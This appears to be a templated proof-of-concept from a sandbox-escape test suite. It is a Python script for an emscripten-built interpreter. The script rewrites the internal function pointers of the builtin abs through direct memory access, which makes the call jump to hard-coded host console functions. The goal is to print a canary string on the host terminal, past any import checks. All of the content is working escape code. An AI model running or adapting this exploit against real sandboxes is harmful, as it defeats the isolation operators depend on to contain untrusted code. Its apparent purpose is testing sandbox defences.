# leak: calls the functions that emscripten puts into the table for dynamic libraries, straight from JavaScript and past any check of imports: the console and graphics. Escape: text of the answer on the host's terminal, or another host effect.
# with: whole_memory
# indexes: 14
import struct

memory = whole_memory()
# Numbers of the pinned interpreter. Console: 14168 log, 14169 error, 14170 warn, 14171 trace, 14172 out, 14173 err.
SLOTS = [14168, 14169, 14170, 14171, 14172, 14173, 13915, 13944, 13957, 13985, 14003, 14030, 14135, 14167]
M_ML, M_SELF, ML_METH = 8, 12, 4
text = b'canary-on-@TERMINAL@\0'
keep.append(text)
definition = struct.unpack_from('<I', memory, id(abs) + M_ML)[0]
struct.pack_into('<I', memory, id(abs) + M_SELF, id(text) + bytes.__basicsize__ - 1)
struct.pack_into('<I', memory, definition + ML_METH, SLOTS[int('@INDEX@')])
abs(1)
